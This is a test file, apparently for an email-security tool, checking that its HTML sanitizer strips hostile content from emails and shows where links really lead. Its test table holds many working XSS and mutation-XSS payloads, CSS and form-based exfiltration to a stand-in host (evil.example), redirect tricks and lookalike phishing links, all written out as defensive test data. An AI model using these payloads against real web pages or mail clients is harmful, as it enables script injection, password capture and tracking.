import { describe, expect, test } from 'vitest';
import { type LaidOutElement, type LaidOutNode, layoutOf } from '../../../../src/engines/detection/display/layout.ts';
import { SafePictures } from '../../../../src/engines/detection/display/safe-pictures.ts';

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const SVG = btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');

const layout = (html: string, attachments: ConstructorParameters<typeof SafePictures>[0] = []) =>
  layoutOf(html, new SafePictures(attachments));
const nodesOf = (node: LaidOutNode): LaidOutNode[] =>
  'text' in node ? [node] : [node, ...node.children.flatMap(nodesOf)];
const elementsOf = (html: string) =>
  nodesOf(layout(html).body).filter((node): node is LaidOutElement => 'tag' in node && node.tag !== 'body');
/** As it nests, without what describes it. */
const shape = (node: LaidOutNode): string =>
  'text' in node ? node.text : `<${node.tag}>${node.children.map(shape).join('')}</${node.tag}>`;
const shapeOf = (html: string) => layout(html).body.children.map(shape).join('');

const ALLOWED = new Set(
  `a abbr address b blockquote br center div em font h1 hr i img li ol p pre span strong sub sup table tbody td th tr u ul`.split(
    ' ',
  ),
);

describe('of a hostile email nothing is left that runs, loads, moves or leads away', () => {
  const hostile = {
    script: '<script>alert(1)</script><p>kept</p>',
    handlers: '<img src=x onerror=alert(1)><p onclick="alert(1)" onmouseover=alert(1)>kept</p>',
    'a script address': '<a href="javascript:alert(1)">kept</a><a href="&#106;avascript:alert(1)">kept</a>',
    svg: '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>kept</text></a><animate onbegin=alert(1)></svg>',
    'an svg picture': `<img src="data:image/svg+xml;base64,${SVG}"><img src="data:image/png;base64,${SVG}">kept`,
    mathml:
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">kept</math>',
    'mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">kept</p></noscript>',
    'mutation through a form':
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>kept',
    'mutation through namespaces':
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">kept</a></style></svg>kept',
    template: '<template><img src=x onerror=alert(1)></template>kept',
    base: '<base href="https://evil.example/"><a href="login">kept</a>',
    'a refresh': '<meta http-equiv="refresh" content="0; url=https://evil.example/">kept',
    frames: '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">kept',
    'a frame with a page': '<iframe srcdoc="<script>alert(1)</script>"></iframe>kept',
    'a form':
      '<form action="https://evil.example/" name="body"><input name="password" type="password" autofocus><button formaction="//evil.example">kept</button></form>',
    'linked styles':
      '<link rel="stylesheet" href="https://evil.example/a.css"><link rel=preload href=//evil.example>kept',
    media:
      '<video src="https://evil.example/a.mp4" autoplay poster="//evil.example/a"></video><audio src=x></audio>kept',
    'a srcset':
      '<picture><source srcset="//evil.example/a"><img srcset="//evil.example/b 2x" src="cid:none"></picture>kept',
    'styles that load':
      '<p style="background:url(https://evil.example/a); behavior:url(#x); -moz-binding:url(x)">kept</p>',
    'styles that cover': '<div style="position:fixed;inset:0;z-index:9;transform:scale(9);height:100vh">kept</div>',
    'escaped styles': '<p style="back\\67round:u\\72l(//evil.example); color:\\72 ed">kept</p>',
    'a style sheet':
      '<style>@import "//evil.example/a.css"; @font-face{font-family:x;src:url(//evil.example)} p{content:"x";position:fixed} input[value^=a]{background:url(//evil.example/a)} p{color:red}</style><p>kept</p>',
    'a broken style sheet': '<style>p{color:red;}</style><style>}}*{position:fixed}</style><p>kept</p>',
    'names for scripts': '<img name="body" id="body" src="cid:x"><a id="cookie" name="cookie">kept</a>',
    'a marquee': '<marquee onstart=alert(1)>kept</marquee>',
    'an unclosed tag': 'kept<img src=x onerror=alert(1) ',
    'a null byte': '<scr\0ipt>kept</scr\0ipt><img src=x\0 onerror=alert(1)>',
    'an image map':
      '<map name=m><area href="javascript:alert(1)" shape=rect></map><img usemap="#m" src="//evil.example">kept',
  };
  test.each(Object.entries(hostile))('%s', (_, html) => {
    const { body, rules } = layout(html);
    const elements = nodesOf(body).filter((node): node is LaidOutElement => 'tag' in node && node.tag !== 'body');
    expect(elements.map(({ tag }) => tag).filter((tag) => !ALLOWED.has(tag))).toEqual([]);
    const names = elements.flatMap(({ attributes = {} }) => Object.keys(attributes));
    expect(names.filter((name) => !/^(?:class|id|alt|width|height|dir|align)$/.test(name))).toEqual([]);
    const styles = [...elements.map(({ style = '' }) => style), ...rules].join('\n');
    expect(styles).not.toMatch(/url|import|position|content|binding|behavior|transform|\\|vh|@font/i);
    for (const { picture } of elements) expect(picture).toBeUndefined();
    expect(JSON.stringify(body)).toContain('kept');
    expect(
      nodesOf(body)
        .map((node) => ('text' in node ? node.text : ''))
        .join(''),
    ).not.toContain('alert(1)');
  });
});

test('remote pictures are counted, each once: in the text, behind it, and in styles', () => {
  const { remotePictures, body } = layout(
    '<body background="https://a.example/bg.png"><style>td{background:url("http://a.example/b.png")}</style>' +
      '<img src="https://a.example/logo.png" alt="Logo" width="90"><img src="//a.example/pixel" width=1 height=1><td style="background:url(https://a.example/c)">',
  );
  expect(remotePictures).toBe(5);
  const [logo] = nodesOf(body).filter((node): node is LaidOutElement => 'tag' in node && node.tag === 'img');
  expect(logo).toEqual({ tag: 'img', attributes: { alt: 'Logo', width: '90' }, missing: 'remote', children: [] });
});

test('pictures of the email itself are shown, by what they are and not by what they are called', () => {
  const content = Uint8Array.from(atob(PNG), (char) => char.charCodeAt(0));
  const file = { filename: 'a.svg', mimeType: 'image/svg+xml', size: content.length, content, contentId: 'a@b' };
  const { body } = layout(`<img src="cid:a%40b"><img src="data:image/x;base64,${PNG}"><img src="cid:other">`, [file]);
  const shown = `data:image/png;base64,${PNG}`;
  expect(body.children).toMatchObject([{ picture: shown }, { picture: shown }, { missing: 'unreadable' }]);
  const huge = content.slice();
  huge.set([0, 1, 0, 0, 0, 1, 0, 0], 16);
  expect(layout('<img src="cid:a@b">', [{ ...file, content: huge }]).body.children).toMatchObject([
    { missing: 'unreadable' },
  ]);
});

test('end tags that are left out are understood, and none leaves its cell', () => {
  expect(shapeOf('<p>a<p>b<div>c</div>')).toBe('<p>a</p><p>b</p><div>c</div>');
  expect(shapeOf('<ul><li>a<li>b<ul><li>c</ul><li>d</ul>')).toBe(
    '<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>',
  );
  expect(shapeOf('<table> <tr> <td>a<td>b</div></p><tr><td><table><tr><td>c</table>d</table>e')).toBe(
    '<table><tr><td>a</td><td>b</td></tr><tr><td><table><tr><td>c</td></tr></table>d</td></tr></table>e',
  );
  expect(elementsOf(`${'<div>'.repeat(5_000)}deep`).length).toBeLessThanOrEqual(5_000);
});

test('each text knows where it is in the displayed text', () => {
  const html =
    '<p>Dear&nbsp;&nbsp;Ada &amp; Bob,</p>\n<p>  please <b>pay</b> to\n day<i style="display:none">hidden</i>.</p>';
  const { body, text } = layout(html);
  expect(text).toBe('Dear Ada & Bob,\n\nplease pay to day.');
  const texts = nodesOf(body).filter((node) => 'text' in node);
  for (const node of texts) {
    const words = node.text.trim().replace(/\s+/g, ' ');
    if (node.at !== null) expect(text.slice(node.at, node.at + words.length)).toBe(words);
  }
  expect(texts.filter(({ at }) => at === null).map((node) => node.text.trim())).toEqual(['', 'hidden']);
});

test('links have no address, and say where they would lead', () => {
  const links = elementsOf(
    '<base href="https://shop.example/a/"><a href="https://www.paypal.com@evil.example/x">1</a><a href="b">2</a>' +
      '<a href="mailto:ada@shop.example?subject=x">3</a><a href="#top">4</a><a href="https://xn--pypal-4ve.example">5</a>',
  ).filter(({ tag }) => tag === 'a');
  expect(links.map(({ target }) => target)).toEqual([
    'evil.example',
    'shop.example',
    'ada@shop.example',
    undefined,
    'xn--pypal-4ve.example',
  ]);
  for (const { attributes } of links) expect(attributes).toBeUndefined();
});

test('an email with colours of its own is known by them', () => {
  expect(layout('<p style="margin: 0">plain</p>').isColoured).toBe(false);
  for (const html of [
    '<td bgcolor=#fff>',
    '<font color=red>',
    '<p style="color:#333">',
    '<style>p{background:#eee}</style>',
  ])
    expect(layout(html).isColoured, html).toBe(true);
});

test('what is too long is cut, and says so', () => {
  expect(layout('<b>x</b>'.repeat(30_000)).isCut).toBe(true);
  expect(layout('<b>x</b>').isCut).toBe(false);
});

test('a picture in which a QR code was found is told from others', () => {
  const content = new Uint8Array(Buffer.from(PNG, 'base64'));
  const picture = (name: string) => ({
    ...{ filename: name, contentId: name, mimeType: 'image/png' },
    ...{ size: content.length, content },
  });
  const codesIn = (html: string, attachment: string, isDrawn?: true) => {
    const codes = [{ text: 'https://pay.example', attachment, ...(isDrawn && { isDrawn }) }];
    const { body } = layoutOf(html, new SafePictures([picture('code.png'), picture('logo.png')], codes));
    return nodesOf(body).flatMap((node) => ('hasCode' in node ? [node.hasCode] : []));
  };
  expect(codesIn('<img src="cid:code.png"><img src="cid:logo.png">', 'code.png')).toEqual([true]);
  expect(codesIn(`<img src="data:image/png;base64,${PNG}"><img src="cid:logo.png">`, '')).toEqual([true]);
  expect(codesIn(`<img src="data:image/png;base64,${PNG}">`, '', true)).toEqual([]);
});
